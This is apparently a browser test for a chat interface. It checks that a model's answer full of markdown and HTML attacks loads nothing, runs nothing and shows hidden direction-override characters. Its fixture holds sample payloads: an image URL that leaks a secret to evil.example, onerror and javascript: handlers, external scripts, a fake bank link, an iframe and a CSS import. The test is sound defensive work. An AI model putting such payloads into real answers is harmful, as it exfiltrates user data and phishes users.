"""What a model writes, in a real browser: nothing is asked of anywhere, nothing runs, and what acts asks first."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect
from test_page import part, say

from serving import Serving

pytestmark = [pytest.mark.slow, pytest.mark.timeout(400)]
Open = Callable[..., Page]
ATTACK = """![secret](https://evil.example/p.png?q=SECRET) <img src=https://evil.example/i.png onerror="window.hit=1">

<script src="https://evil.example/x.js"></script><script>window.hit = 1</script>

[your bank](https://evil.example/login) [click](javascript:window.hit=1) [home](/api/memories)

| a | b |
|---|---|
| ![t](https://evil.example/t.png) | <iframe src="https://evil.example/"></iframe> |

<style>@import url(https://evil.example/s.css); body { background: url(https://evil.example/b.png) }</style>

```html
<img src=https://evil.example/c.png onerror=window.hit=1>
```

pay \u202e001$"""
# Texts, titles and labels of the whole page that hold what turns a direction.
RAW = r"""() => [...document.querySelectorAll("body, body *:not(script)")].flatMap(one => [
    ...[...one.childNodes].filter(node => node.nodeType === Node.TEXT_NODE).map(node => node.data),
    one.title, one.ariaLabel ?? ""]).concat(document.title).filter(text => /[\u202a-\u202e\u2066-\u2069]/.test(text))"""
RULES = [{"match": "attack me", "answer": ATTACK}, {"match": ".", "answer": "Hm."}]


def test_an_answer_full_of_attacks_loads_nothing_and_runs_nothing(team: Serving, open_page: Open) -> None:
    page = open_page(team)  # at its end no request may have gone elsewhere, and no script may have failed
    say(page, "attack me \u202ereversed")
    expect(part(page, "figures")).to_be_visible()
    answer = part(page, "answer-text")
    expect(answer).to_contain_text("your bank (evil.example)")
    expect(answer).to_contain_text("⟦U+202E⟧")
    expect(part(page, "user-text")).to_contain_text("⟦U+202E⟧")
    assert page.evaluate(RAW) == []
    assert page.evaluate("window.hit") is None
    assert answer.locator("img, iframe, script, style, object, embed, link, form, video, audio").count() == 0
    links = answer.locator("a").evaluate_all("all => all.map(one => [one.getAttribute('href'), one.rel])")
    assert {rel for _, rel in links} == {"noopener noreferrer nofollow"}
    assert all(href.startswith("https://evil.example/") for href, _ in links), links
